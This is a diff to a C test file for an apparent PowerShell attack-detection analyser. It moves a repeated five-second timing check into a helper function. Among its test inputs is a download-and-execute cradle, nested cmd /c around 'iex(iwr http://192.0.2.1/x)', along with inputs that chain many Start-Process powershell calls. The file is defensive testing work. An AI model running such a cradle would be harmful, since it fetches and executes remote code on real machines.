@@ -226,13 +226,25 @@ test_json_and_sarif_name_the_technique(void)
 	ps_analysis_free(a);
 }
 
+/* Analyse b's text within 5 s of CPU, then empty b. */
+static void
+analyze_in_time(struct buf *b)
+{
+	clock_t t0 = clock();
+	struct ps_analysis *a = analyze(b->data);
+
+	T_ASSERTF((double)(clock() - t0) / CLOCKS_PER_SEC < 5.0, "took %.1f s",
+	    (double)(clock() - t0) / CLOCKS_PER_SEC);
+	ps_analysis_free(a);
+	buf_free(b);
+}
+
 /* Interpreters inside interpreters: analysed to the depth limit, no further. */
 static void
 test_nesting_is_bounded(void)
 {
 	struct buf b = BUF_INIT;
 	struct ps_analysis *a;
-	clock_t t0;
 
 	/* three levels of cmd /c around the cradle: inside the limit */
 	a = analyze("cmd /c cmd /c cmd /c powershell -c \"iex(iwr http://192.0.2.1/x)\"\n");
@@ -253,12 +265,7 @@ test_nesting_is_bounded(void)
 	buf_puts(&b, "'\n");
 	for (int i = 0; i < 500; i++)
 		buf_puts(&b, "Start-Process powershell -ArgumentList $c\n");
-	t0 = clock();
-	a = analyze(b.data);
-	T_ASSERTF((double)(clock() - t0) / CLOCKS_PER_SEC < 5.0, "took %.1f s",
-	    (double)(clock() - t0) / CLOCKS_PER_SEC);
-	ps_analysis_free(a);
-	buf_free(&b);
+	analyze_in_time(&b);
 	/* many assignments and a command line of many variable references: the look-ups per
 	 * line are bounded */
 	for (int i = 0; i < 20000; i++)
@@ -270,12 +277,7 @@ test_nesting_is_bounded(void)
 	for (int i = 0; i < 20000; i++)
 		buf_printf(&b, " $v%d", i);
 	buf_puts(&b, "\"\n");
-	t0 = clock();
-	a = analyze(b.data);
-	T_ASSERTF((double)(clock() - t0) / CLOCKS_PER_SEC < 5.0, "took %.1f s",
-	    (double)(clock() - t0) / CLOCKS_PER_SEC);
-	ps_analysis_free(a);
-	buf_free(&b);
+	analyze_in_time(&b);
 }
 
 /* Download then execute is linked through the variable or the path, in order only. */
